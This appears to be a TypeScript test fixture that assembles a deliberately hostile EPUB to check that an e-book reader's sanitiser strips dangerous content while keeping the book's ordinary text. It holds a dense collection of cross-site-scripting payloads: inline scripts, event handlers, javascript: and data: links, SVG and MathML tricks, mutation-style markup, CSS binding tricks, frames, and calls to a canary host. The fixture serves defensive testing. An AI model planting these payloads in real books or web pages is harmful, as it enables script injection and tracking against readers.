import { plantEpub } from '#src/epub/planted-book.ts'

/** Words that stand in the hostile book's sound places, so that a test sees that its text was kept. */
export const SOUND_WORDS = 'This honest sentence stands after every attack.'
export const HOSTILE_TITLE_WORDS = 'A Hostile Book'

/** A book that tries everything: each way in sets a flag, opens a dialog or calls the canary. */
export function hostileBook(canary: string): Uint8Array {
  const run = `window.__pwned=1;alert(1);fetch('${canary}/script')`
  const escaped = run.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
  const attribute = `onclick="${escaped}" onmouseover="${escaped}" onfocus="${escaped}" onload="${escaped}"`
  const markup = `&quot;&gt;&lt;img src=x onerror=&quot;window.__pwned=2&quot;&gt;&lt;script&gt;window.__pwned=3&lt;/script&gt;`
  const pages = {
    'a.xhtml': `<h1 ${attribute}>Chapter of scripts</h1>
      <script>${run}</script><script src="${canary}/x.js"></script><scr<script>ipt>${run}</scr</script>ipt>
      <p ${attribute} style="background:url(${canary}/style);width:expression(${escaped});position:fixed">Handlers on a paragraph.</p>
      <p><img src="missing.png" onerror="${escaped}" alt="broken"/><img src="${canary}/pixel.png" srcset="${canary}/set.png 2x" alt="remote"/>
        <img src="evil.svg" alt="drawn"/></p>
      <p><a href="javascript:${escaped}">script link</a> <a href=" java&#10;script:${escaped}">split link</a>
        <a href="JaVaScRiPt:${escaped}">mixed link</a> <a href="data:text/html,&lt;script&gt;window.__pwned=4&lt;/script&gt;">data link</a>
        <a href="vbscript:x">vb link</a> <a href="//evil.example/" target="_self" ping="${canary}/ping">bare link</a>
        <a href="#x" ${attribute}>inner link</a></p>
      <p>${SOUND_WORDS}</p>`,
    'b.xhtml': `<h1>Chapter of drawings</h1>
      <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${escaped}" width="9" height="9">
        <script>${run}</script><script xlink:href="${canary}/svg.js"/>
        <foreignObject><p xmlns="http://www.w3.org/1999/xhtml" ${attribute}>foreign</p></foreignObject>
        <a xlink:href="javascript:${escaped}"><text y="8">drawn link</text></a>
        <use href="${canary}/use.svg#a"/><image href="${canary}/image.png"/>
        <animate attributeName="href" to="javascript:${escaped}" onbegin="${escaped}" begin="0s"/>
        <set attributeName="onmouseover" to="${escaped}"/><rect width="9" height="9" ${attribute}/></svg>
      <math xmlns="http://www.w3.org/1998/Math/MathML" xmlns:xlink="http://www.w3.org/1999/xlink">
        <maction actiontype="statusline" xlink:href="javascript:${escaped}"><mi href="javascript:${escaped}">x</mi></maction>
        <semantics><mi>y</mi><annotation-xml encoding="text/html"><img src="x" onerror="${escaped}"/></annotation-xml></semantics></math>
      <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwned=5&gt;"></math>
      <p>${SOUND_WORDS}</p>`,
    'c.xhtml': `<h1>Chapter of frames</h1>
      <base href="${canary}/base/"/><meta http-equiv="refresh" content="0;url=${canary}/refresh"/>
      <link rel="stylesheet" href="${canary}/sheet.css"/><style>@import "${canary}/import.css"; body{background:url(${canary}/body)}</style>
      <iframe src="${canary}/frame"></iframe><iframe srcdoc="&lt;script&gt;parent.__pwned=6&lt;/script&gt;"></iframe>
      <object data="${canary}/object"><embed src="${canary}/embed"/></object>
      <form action="${canary}/form"><input name="q" autofocus="" onfocus="${escaped}"/><button formaction="javascript:${escaped}">Send</button></form>
      <audio src="${canary}/a.mp3" autoplay=""></audio><video poster="${canary}/v.png"><source src="${canary}/v.mp4" onerror="${escaped}"/></video>
      <details open="" ontoggle="${escaped}"><summary>s</summary>t</details><dialog open="">d</dialog>
      <noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=window.__pwned=7&gt;">n</p></noscript>
      <template><script>${run}</script></template><p id="documentElement" name="cookie">clobber</p>
      <p lang="&quot;&gt;&lt;script&gt;" dir="evil" contenteditable="" class="reader__bar dialog__backdrop site-header" style="position:fixed;inset:0;z-index:99">odd</p>
      <p>A note mark<a epub:type="noteref" href="#n1">1</a> stands here.</p>
      <aside epub:type="footnote" id="n1"><p ${attribute}>The note says <img src="x" onerror="${escaped}"/> nothing evil.</p></aside>
      <p>${SOUND_WORDS}</p>`,
  }
  return plantEpub({
    pages,
    head: `<link rel="stylesheet" href="evil.css"/><script>${run}</script><base href="${canary}/"/>`,
    nav: `<nav epub:type="toc"><ol><li><a href="a.xhtml">Scripts ${markup}</a></li>
      <li><a href="javascript:${escaped}">Drawings</a></li><li><a href="b.xhtml"><img src="x" onerror="${escaped}"/>Drawings</a></li>
      <li><a href="c.xhtml">Frames</a></li></ol></nav>`,
    metadata: `<dc:identifier id="id">urn:hostile:${markup}</dc:identifier>
      <dc:title>${HOSTILE_TITLE_WORDS} ${markup} &amp;lt;script&amp;gt;window.__pwned=8&amp;lt;/script&amp;gt; &lt;3</dc:title>
      <dc:creator>Mallory ${markup}</dc:creator><dc:contributor>Trudy ${markup}</dc:contributor>
      <dc:publisher>Evil Press ${markup}</dc:publisher><dc:language>en</dc:language>
      <dc:description>&lt;p onclick="window.__pwned=9"&gt;A description&lt;/p&gt; ${markup}</dc:description>
      <meta name="cover" content="cover"/>`,
    manifest: `<item id="css" href="evil.css" media-type="text/css"/><item id="svg" href="evil.svg" media-type="image/svg+xml"/>
      <item id="cover" href="evil.svg" media-type="image/svg+xml" properties="cover-image"/>`,
    files: {
      'OPS/evil.css': `@import url(${canary}/css); @font-face{font-family:e;src:url(${canary}/font)} p{font-family:e;background:url(${canary}/p);
        behavior:url(${canary}/htc);-moz-binding:url(${canary}/xbl);content:url(${canary}/content)} body{display:none!important}`,
      'OPS/evil.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="60" onload="${escaped}"><script>${run}</script>
        <image href="${canary}/cover.png" width="9" height="9"/><rect width="40" height="60" fill="#722"/></svg>`,
    },
  })
}
